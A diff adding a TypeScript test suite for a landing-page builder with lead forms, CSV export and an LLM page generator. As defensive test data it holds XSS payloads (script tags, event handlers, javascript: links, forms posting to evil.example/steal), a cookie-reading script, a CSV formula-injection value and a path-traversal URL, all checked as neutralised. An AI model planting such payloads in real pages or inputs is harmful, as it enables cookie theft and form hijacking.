@@ -1,0 +1,419 @@
+import { once } from 'node:events';
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+import { landingLeads } from '../../db/schema/index.ts';
+import {
+  ADMIN,
+  as,
+  createTestApp,
+  form,
+  login,
+  register,
+  type TestApp,
+  userWithRole,
+} from '../../test/test-app.ts';
+import { LEADS_PER_IP } from './landing-page.routes.ts';
+
+let t: TestApp;
+beforeAll(async () => {
+  t = await createTestApp();
+});
+afterAll(() => t.close());
+
+const contactForm = {
+  fields: [
+    { name: 'name', label: 'Your name', type: 'text', required: true },
+    { name: 'email', label: 'E-mail', type: 'email', required: true },
+    { name: 'phone', label: 'Phone number', type: 'phone', required: false },
+    { name: 'budget', label: 'Budget', type: 'number', required: false },
+    { name: 'message', label: 'Message', type: 'textarea', required: false },
+  ],
+  submit_label: '',
+};
+
+async function owner(app = t.app) {
+  const u = await register(app);
+  return { ...u, api: as(app, u.access_token) };
+}
+
+async function landingOf(api: ReturnType<typeof as>, extra: Record<string, unknown> = {}) {
+  const res = await api.post('/api/landings', {
+    landing: {
+      title: 'Spring Sale',
+      headline: 'Solar panels at half price',
+      description: 'Cut your bills by half. Installed in one day. Ten years of warranty.',
+      form: contactForm,
+      ...extra,
+    },
+  });
+  expect(res.statusCode).toBe(201);
+  return res.json();
+}
+
+const publicPost = (slug: string, values: Record<string, string>, remoteAddress = '127.0.0.1') =>
+  t.app.inject({ method: 'POST', url: `/l/${slug}`, remoteAddress, ...form(values) });
+
+test('generation before the form has fields is refused with "Landing needs a form first"', async () => {
+  const o = await owner();
+  const landing = (await o.api.post('/api/landings', { landing: { title: 'Empty' } })).json();
+  expect(landing).toMatchObject({ status: 'inactive', html: null, generated_at: null, leads: 0 });
+  expect(landing.form).toEqual({ fields: [], submit_label: '' });
+  const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+  expect(res.statusCode).toBe(422);
+  expect(res.json().errors).toEqual([
+    { field: 'form', code: 'landing_needs_form', detail: 'Landing needs a form first' },
+  ]);
+});
+
+test('the template page holds every field with its label, input type and required mark', async () => {
+  const o = await owner();
+  const landing = await landingOf(o.api);
+  expect(landing.slug).toMatch(/^spring-sale-[0-9a-f]{10}$/);
+  expect(landing.public_url).toBe(`http://localhost:8080/l/${landing.slug}`);
+  const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+  expect(res.statusCode).toBe(200);
+  const { html, generated_at } = res.json();
+  expect(generated_at).not.toBeNull();
+  expect(html).toContain('<h1>Solar panels at half price</h1>');
+  expect(html).toContain('Cut your bills by half.');
+  expect(html).toContain('Installed in one day.'); // a benefit
+  expect(html).toContain('<style>');
+  expect(html).toContain('@media (min-width:760px)');
+  expect(html).toContain(`<form method="post" action="/l/${landing.slug}">`);
+  for (const f of contactForm.fields) expect(html).toContain(`<label for="f-${f.name}">${f.label}`);
+  expect(html).toMatch(/<input id="f-name" name="name" type="text"[^>]*required/);
+  expect(html).toMatch(/<input id="f-email" name="email" type="email"[^>]*required/);
+  expect(html).toMatch(/<input id="f-phone" name="phone" type="tel"/);
+  expect(html).toMatch(/<input id="f-budget" name="budget" type="number"/);
+  expect(html).toMatch(/<textarea id="f-message" name="message"/);
+  expect(html).not.toMatch(/<input id="f-phone"[^>]*required/);
+  expect(html).toContain('<button type="submit">Send</button>');
+
+  // the texts follow the requested language; a submit label of the owner wins
+  await o.api.put(`/api/landings/${landing._id}`, {
+    landing: { form: { ...contactForm, submit_label: 'Get a quote' } },
+  });
+  const de = await o.api.post('/api/landings/generate', {
+    user_id: o.user_id,
+    page_id: landing._id,
+    locale: 'de',
+  });
+  expect(de.json().html).toContain('Mit * markierte Felder sind Pflichtfelder');
+  expect(de.json().html).toContain('<button type="submit">Get a quote</button>');
+});
+
+test('the public page is served only while active, with a script-free CSP', async () => {
+  const o = await owner();
+  const landing = await landingOf(o.api);
+  expect((await t.app.inject({ method: 'GET', url: `/l/${landing.slug}` })).statusCode).toBe(404);
+  await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+  expect((await t.app.inject({ method: 'GET', url: `/l/${landing.slug}` })).statusCode).toBe(404);
+  await o.api.put(`/api/landings/${landing._id}`, { landing: { status: 'active' } });
+
+  const page = await t.app.inject({ method: 'GET', url: `/l/${landing.slug}` });
+  expect(page.statusCode).toBe(200);
+  expect(page.headers['content-type']).toBe('text/html; charset=utf-8');
+  expect(page.body).toMatch(/^<!doctype html><html lang="en">/);
+  expect(page.body).toContain('<meta name="viewport" content="width=device-width,initial-scale=1">');
+  expect(page.body).toContain('<title>Spring Sale</title>');
+  expect(page.body).toContain('Solar panels at half price');
+  const csp = String(page.headers['content-security-policy']);
+  expect(csp).toContain("default-src 'none'");
+  expect(csp).toContain("style-src 'unsafe-inline'");
+  expect(csp).toContain("form-action 'self'");
+  expect(csp).not.toContain('script-src');
+
+  expect((await t.app.inject({ method: 'GET', url: '/l/no-such-page' })).statusCode).toBe(404);
+  expect((await t.app.inject({ method: 'GET', url: '/l/..%2Fetc' })).statusCode).toBe(404);
+});
+
+describe('leads', () => {
+  test('a submission keeps only the form fields, shows thanks, and appears in leads and the CSV', async () => {
+    const o = await owner();
+    const landing = await landingOf(o.api, { status: 'active' });
+    await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+
+    const sent = await publicPost(landing.slug, {
+      name: '  Ann "The Buyer", Smith ',
+      email: 'ann@example.com',
+      message: '=HYPERLINK("http://evil")',
+      is_admin: 'yes',
+    });
+    expect(sent.statusCode).toBe(200);
+    expect(sent.body).toContain('Thank you!');
+    await publicPost(landing.slug, { name: 'Bob', email: 'bob@example.com', budget: '1500' });
+
+    const leads = await o.api.get(`/api/landings/${landing._id}/leads`);
+    expect(leads.statusCode).toBe(200);
+    expect(leads.json()).toMatchObject({ total: 2, page: 1, limit: 20 });
+    const [newest, oldest] = leads.json().items;
+    expect(newest.data).toEqual({ name: 'Bob', email: 'bob@example.com', budget: '1500' });
+    expect(oldest.data).toEqual({
+      name: 'Ann "The Buyer", Smith',
+      email: 'ann@example.com',
+      message: '=HYPERLINK("http://evil")',
+    });
+    expect(oldest.landing_id).toBe(landing._id);
+    expect((await o.api.get(`/api/landings/${landing._id}`)).json().leads).toBe(2);
+
+    const csv = await o.api.get(`/api/landings/${landing._id}/leads.csv`);
+    expect(csv.statusCode).toBe(200);
+    expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(csv.headers['content-disposition']).toBe(
+      `attachment; filename="landing-${landing._id}-leads.csv"`,
+    );
+    const lines = csv.body
+      .replace(/^\uFEFF/, '')
+      .trimEnd()
+      .split('\r\n');
+    expect(lines[0]).toBe('"Your name","E-mail","Phone number","Budget","Message","Date"');
+    expect(lines[1]).toMatch(
+      /^"Ann ""The Buyer"", Smith","ann@example.com","","","'=HYPERLINK\(""http:\/\/evil""\)","\d{4}-\d\d-\d\dT[^"]+"$/,
+    );
+    expect(lines[2]).toMatch(/^"Bob","bob@example.com","","1500","","/);
+    expect(lines).toHaveLength(3);
+  });
+
+  test('a missing required field or a bad e-mail is refused and the page comes back filled in', async () => {
+    const o = await owner();
+    const landing = await landingOf(o.api, { status: 'active' });
+    await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+    const res = await publicPost(landing.slug, { email: 'not-an-email', message: 'Call me <b>now</b>' });
+    expect(res.statusCode).toBe(422);
+    expect(res.headers['content-security-policy']).toContain("default-src 'none'");
+    expect(res.body).toContain('role="alert"');
+    expect(res.body).toContain("Your name can't be empty");
+    expect(res.body).toContain('E-mail must be a valid email');
+    expect(res.body).toContain('value="not-an-email"');
+    expect(res.body).toContain('Call me &lt;b&gt;now&lt;/b&gt;</textarea>');
+    expect(res.body).not.toContain('<b>now</b>');
+    const rows = await t.database.db
+      .select()
+      .from(landingLeads)
+      .where(eq(landingLeads.landingId, Number(landing._id)));
+    expect(rows).toHaveLength(0);
+  });
+
+  test('one address can send only a few leads in a row', async () => {
+    const o = await owner();
+    const landing = await landingOf(o.api, { status: 'active' });
+    await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+    const lead = { name: 'N', email: 'n@example.com' };
+    for (let i = 0; i < LEADS_PER_IP; i++)
+      expect((await publicPost(landing.slug, lead, '10.9.9.9')).statusCode).toBe(200);
+    const refused = await publicPost(landing.slug, lead, '10.9.9.9');
+    expect(refused.statusCode).toBe(429);
+    expect(refused.body).toContain('Too many attempts');
+    expect((await publicPost(landing.slug, lead, '10.9.9.10')).statusCode).toBe(200);
+  });
+});
+
+test('HTML edited by hand is sanitised again: no scripts, handlers, javascript: links or foreign forms', async () => {
+  const o = await owner();
+  const landing = await landingOf(o.api);
+  const res = await o.api.put(`/api/landings/${landing._id}`, {
+    landing: {
+      html: `<h1 onclick="steal()">Hi</h1><script>alert(1)</script><a href="javascript:alert(2)">x</a>
+<img src="x" onerror="alert(3)"><iframe src="https://evil.example"></iframe>
+<form action="https://evil.example/steal" method="get" onsubmit="x()"><input name="name" type="text"><button formaction="https://evil.example">Go</button></form>`,
+    },
+  });
+  expect(res.statusCode).toBe(200);
+  const { html } = res.json();
+  expect(html).toContain('<h1>Hi</h1>');
+  for (const bad of [
+    '<script',
+    'alert(1)',
+    'onclick',
+    'onerror',
+    'javascript:',
+    'iframe',
+    'evil.example',
+    'onsubmit',
+  ])
+    expect(html).not.toContain(bad);
+  expect(html).toContain(`<form method="post" action="/l/${landing.slug}">`);
+  expect(res.json().generated_at).toBeNull();
+  const cleared = await o.api.put(`/api/landings/${landing._id}`, { landing: { html: null } });
+  expect(cleared.json().html).toBeNull();
+});
+
+test('form field names are unique and fit the form builder rules', async () => {
+  const o = await owner();
+  const dup = await o.api.post('/api/landings', {
+    landing: {
+      title: 'Dup',
+      form: {
+        fields: [
+          { name: 'email', label: 'A' },
+          { name: 'email', label: 'B' },
+        ],
+      },
+    },
+  });
+  expect(dup.statusCode).toBe(422);
+  expect(dup.json().errors[0].field).toBe('form.fields.1.name');
+  const bad = await o.api.post('/api/landings', {
+    landing: { title: 'Bad', form: { fields: [{ name: 'Bad Name!', label: 'A' }] } },
+  });
+  expect(bad.statusCode).toBe(422);
+});
+
+test('ownership: another user gets 404, readonly roles cannot write, admins see every landing', async () => {
+  const a = await owner();
+  const b = await owner();
+  const landing = await landingOf(a.api);
+  for (const url of [
+    `/api/landings/${landing._id}`,
+    `/api/landings/${landing._id}/leads`,
+    `/api/landings/${landing._id}/leads.csv`,
+  ])
+    expect((await b.api.get(url)).statusCode, url).toBe(404);
+  expect((await b.api.put(`/api/landings/${landing._id}`, { landing: { title: 'x' } })).statusCode).toBe(404);
+  expect((await b.api.del(`/api/landings/${landing._id}`)).statusCode).toBe(404);
+  expect(
+    (await b.api.post('/api/landings/generate', { user_id: a.user_id, page_id: landing._id })).statusCode,
+  ).toBe(404);
+  // the landing is not b's, whatever user_id says
+  expect(
+    (await a.api.post('/api/landings/generate', { user_id: b.user_id, page_id: landing._id })).statusCode,
+  ).toBe(404);
+  expect((await b.api.get(`/api/landings?user_id=${a.user_id}`)).json().total).toBe(0);
+
+  const ro = await userWithRole(t, 'defaultreadonly');
+  const roApi = as(t.app, (await login(t.app, ro.email, ro.password)).access_token);
+  expect((await roApi.post('/api/landings', { landing: { title: 'x' } })).statusCode).toBe(403);
+
+  const aro = await userWithRole(t, 'adminreadonly');
+  const aroApi = as(t.app, (await login(t.app, aro.email, aro.password)).access_token);
+  expect((await aroApi.get(`/api/landings/${landing._id}`)).statusCode).toBe(200);
+  expect((await aroApi.get(`/api/landings/${landing._id}/leads.csv`)).statusCode).toBe(200);
+  expect((await aroApi.put(`/api/landings/${landing._id}`, { landing: { title: 'x' } })).statusCode).toBe(
+    403,
+  );
+  expect(
+    (await aroApi.post('/api/landings/generate', { user_id: a.user_id, page_id: landing._id })).statusCode,
+  ).toBe(403);
+  expect((await aroApi.del(`/api/landings/${landing._id}`)).statusCode).toBe(403);
+
+  const admin = as(t.app, (await login(t.app, ADMIN.email, ADMIN.password)).access_token);
+  const listed = (await admin.get(`/api/landings?user_id=${a.user_id}`)).json();
+  expect(listed.total).toBe(1);
+  expect(listed.items[0]._id).toBe(landing._id);
+  const forA = await admin.post('/api/landings', { landing: { title: 'By admin', user_id: a.user_id } });
+  expect(forA.json().user_id).toBe(a.user_id);
+  expect((await a.api.del(`/api/landings/${landing._id}`)).statusCode).toBe(204);
+  expect((await a.api.get(`/api/landings/${landing._id}`)).statusCode).toBe(404);
+});
+
+describe('an OpenAI-compatible generator', () => {
+  let llm: Server;
+  let app: TestApp;
+  const requests: { url: string; auth: string; body: Record<string, unknown> }[] = [];
+  let answer: () => { status: number; body: unknown } = () => ({ status: 500, body: {} });
+  const chat = (content: string) => ({
+    status: 200,
+    body: {
+      id: 'c1',
+      object: 'chat.completion',
+      choices: [{ index: 0, message: { role: 'assistant', content } }],
+    },
+  });
+
+  beforeAll(async () => {
+    llm = createServer((req, res) => {
+      let raw = '';
+      req.on('data', (c) => {
+        raw += c;
+      });
+      req.on('end', () => {
+        requests.push({ url: req.url ?? '', auth: req.headers.authorization ?? '', body: JSON.parse(raw) });
+        const a = answer();
+        res.writeHead(a.status, { 'content-type': 'application/json' });
+        res.end(JSON.stringify(a.body));
+      });
+    });
+    llm.listen(0, '127.0.0.1');
+    await once(llm, 'listening');
+    const port = (llm.address() as AddressInfo).port;
+    app = await createTestApp({ LLM_BASE_URL: `http://127.0.0.1:${port}/v1/`, LLM_API_KEY: 'test-key' });
+  });
+  afterAll(async () => {
+    await app.close();
+    llm.close();
+  });
+
+  test('its page is used, unfenced and stripped of scripts and handlers', async () => {
+    const o = await owner(app.app);
+    const landing = (
+      await o.api.post('/api/landings', {
+        landing: { title: 'AI', headline: 'Fast loans', form: contactForm },
+      })
+    ).json();
+    answer = () =>
+      chat(
+        '```html\n<style>.hero{color:red}</style><section class="hero"><h1 onclick="track()">Fast loans</h1>' +
+          '<script>document.cookie</script><a href="javascript:void(0)">more</a>' +
+          `<form action="https://collector.example/"><label for="n">Your name</label>${contactForm.fields
+            .map((f) =>
+              f.type === 'textarea' ? `<textarea name="${f.name}"></textarea>` : `<input name="${f.name}">`,
+            )
+            .join('')}<button type="submit">Send</button></form></section>` +
+          '\n```',
+      );
+    const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+    expect(res.statusCode).toBe(200);
+    const { html } = res.json();
+    expect(html).toContain('<style>.hero{color:red}</style>');
+    expect(html).toContain('<h1>Fast loans</h1>');
+    expect(html).not.toContain('```');
+    for (const bad of ['<script', 'document.cookie', 'onclick', 'javascript:', 'collector.example'])
+      expect(html).not.toContain(bad);
+    expect(html).toContain(`<form method="post" action="/l/${landing.slug}">`);
+    expect(html).not.toContain('lp-fallback-form');
+
+    const sent = requests.at(-1)!;
+    expect(sent.url).toBe('/v1/chat/completions');
+    expect(sent.auth).toBe('Bearer test-key');
+    expect(sent.body.model).toBe('gpt-4o-mini');
+    const prompt = JSON.stringify(sent.body.messages);
+    for (const f of contactForm.fields) expect(prompt).toContain(`name=\\"${f.name}\\"`);
+    expect(prompt).toContain('Fast loans');
+  });
+
+  test('a page that forgot form fields gets the built-in form', async () => {
+    const o = await owner(app.app);
+    const landing = (
+      await o.api.post('/api/landings', { landing: { title: 'AI 2', form: contactForm } })
+    ).json();
+    answer = () =>
+      chat(
+        '<html><head><title>x</title></head><body><h1>Only a headline</h1><form><input name="name"></form></body></html>',
+      );
+    const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+    const { html } = res.json();
+    expect(html).toContain('<h1>Only a headline</h1>');
+    expect(html).not.toContain('<title>');
+    expect(html).toContain('lp-fallback-form');
+    for (const f of contactForm.fields) expect(html).toContain(`name="${f.name}"`);
+    expect(html.match(/<form /g)).toHaveLength(1);
+  });
+
+  test('a failing service answers 502 and keeps the page as it was', async () => {
+    const o = await owner(app.app);
+    const landing = (
+      await o.api.post('/api/landings', { landing: { title: 'AI 3', form: contactForm } })
+    ).json();
+    answer = () => ({ status: 500, body: { error: { message: 'overloaded' } } });
+    const res = await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id });
+    expect(res.statusCode).toBe(502);
+    expect(res.json()).toMatchObject({ error: 'landing_generation_failed' });
+    answer = () => chat('   ');
+    expect(
+      (await o.api.post('/api/landings/generate', { user_id: o.user_id, page_id: landing._id })).statusCode,
+    ).toBe(502);
+    expect((await o.api.get(`/api/landings/${landing._id}`)).json().html).toBeNull();
+  });
+});
